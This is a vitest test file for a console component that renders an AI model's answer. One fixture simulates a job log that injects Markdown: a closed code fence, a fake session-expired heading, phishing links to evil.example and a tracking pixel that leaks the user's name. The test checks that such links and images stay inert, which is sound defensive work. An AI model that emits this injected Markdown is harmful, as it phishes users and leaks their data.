import { describe, expect, it } from 'vitest';
import { stubFetch } from '../../test/fetch';
import { renderSignedIn } from '../../test/render';
import { world } from '../../test/fixtures';
import { Answer } from './Answer';
import { answer } from './test-support';

/**
 * What another user's job can put in an answer: its log closed the answer's code block, then
 * wrote a heading, a phishing link and a remote image (a tracking pixel). A model that repeats
 * such a log writes the same Markdown.
 */
const INJECTED = [
  'See [the job](/jobs/job-1) and [its docs](/docs/jobs.md#logs).',
  '',
  'The last 4 lines of the log of job train:',
  '',
  '```text',
  '```',
  '# Your session expired',
  '[Sign in again](https://evil.example/login) or [here](//evil.example/again)',
  '![pixel](https://evil.example/pixel.png?who=alice)',
  '```',
].join('\n');

function show(response: string) {
  stubFetch([]);
  const { user, sessionConfig } = world();
  return renderSignedIn(<Answer answer={answer({ response, citations: [] })} />, {
    user,
    sessionConfig,
  });
}

describe('an answer quoting what a job wrote', () => {
  it('loads no remote image and makes no link of an address outside the console', () => {
    const { container } = show(INJECTED);
    // The image is never loaded: no <img> at all, its description stays as text.
    expect(container.querySelectorAll('img')).toHaveLength(0);
    expect(container.textContent).toContain('[image: pixel]');
    // The phishing links are words with their address beside them, nothing to click.
    const hrefs = [...container.querySelectorAll('a')].map((a) => a.getAttribute('href'));
    expect(hrefs.filter((h) => h?.includes('evil.example'))).toEqual([]);
    expect(container.textContent).toContain('Sign in again (https://evil.example/login)');
    expect(container.textContent).toContain('here (//evil.example/again)');
    // The console's own pages and docs are still links.
    expect(hrefs.map((h) => h?.split('?')[0])).toEqual(['/jobs/job-1', '/docs/jobs.md#logs']);
  });
});
